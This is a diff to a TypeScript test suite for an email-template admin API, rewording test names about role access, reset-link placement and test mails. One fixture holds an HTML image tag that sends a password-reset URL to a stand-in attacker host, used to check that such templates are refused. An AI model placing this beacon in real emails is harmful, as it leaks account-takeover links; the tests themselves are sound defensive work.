@@ -56,7 +56,7 @@ describe('templates', () => {
     expect(answer.data.htmlContent).toBe(change.htmlContent)
   })
 
-  it('keep their text where the HTML stays, and take a text of their own', async () => {
+  it('keep their text if the HTML is unchanged, and accept a separate text', async () => {
     const app = await adminApp()
     const put = async (body: object) =>
       emailTemplateResponse.parse((await app.admin.send('PUT', `${path}/welcome_email`, body)).body).data
@@ -85,7 +85,7 @@ describe('templates', () => {
 describe('templates of mails that open an account', () => {
   const leak = { ...texts, htmlContent: '<p>{{RESET_URL}}</p><img src="https://evil.test/?{{RESET_URL}}">' }
 
-  it.each(['admin', 'editor', 'viewer'] as const)('are no business of the role %s (D53)', async (role) => {
+  it.each(['admin', 'editor', 'viewer'] as const)('are hidden from the role %s (D53)', async (role) => {
     const app = await adminApp()
     const own = app.asRole(role)
     for (const name of ['password_reset', 'email_verification']) {
@@ -100,7 +100,7 @@ describe('templates of mails that open an account', () => {
     expect(await app.mails()).toEqual([])
   })
 
-  it('are changed by the super admin, and hold what opens as text or as a whole address alone (D53)', async () => {
+  it('are changed by the super admin, and contain secrets only as text or as a whole address (D53)', async () => {
     const app = await adminApp()
     const refused = await app.admin.send('PUT', `${path}/password_reset`, leak)
     expect(refused).toMatchObject({ status: 400, code: 'misplaced_placeholder' })
@@ -109,7 +109,7 @@ describe('templates of mails that open an account', () => {
     expect((await app.admin.send('PUT', `${path}/password_reset`, good)).status).toBe(200)
   })
 
-  it('give nothing away where an older text would: the built-in one is sent (D53)', async () => {
+  it('reveal nothing through an older unsafe text: the built-in one is sent (D53)', async () => {
     const app = await adminApp({ plans: [plan], clients: [aClient(plan, { email: 'ada@acme.test' })] })
     await app.env.DB.prepare(`UPDATE email_templates SET html_content = ?1 WHERE name = 'password_reset'`)
       .bind(leak.htmlContent)
@@ -139,7 +139,7 @@ describe('the preview', () => {
 })
 
 describe('the test mail', () => {
-  it('goes to the administrator who asks, also of an inactive template, and to nobody else', async () => {
+  it('goes only to the administrator who requests it, also for an inactive template', async () => {
     const app = await adminApp()
     await app.admin.send('PUT', `${path}/contact_confirmation`, { ...texts, isActive: false })
     const answer = await app.asRole('editor').post(`${path}/contact_confirmation/test`, { to: 'victim@other.test' })
@@ -163,6 +163,6 @@ it.each([
   expect(plainTextOf(html)).toBe(text)
 })
 
-it('reads deep HTML without running out of calls', () => {
+it('reads deeply nested HTML without a stack overflow', () => {
   expect(plainTextOf('<div>'.repeat(20_000) + 'x')).toBe('x')
 })
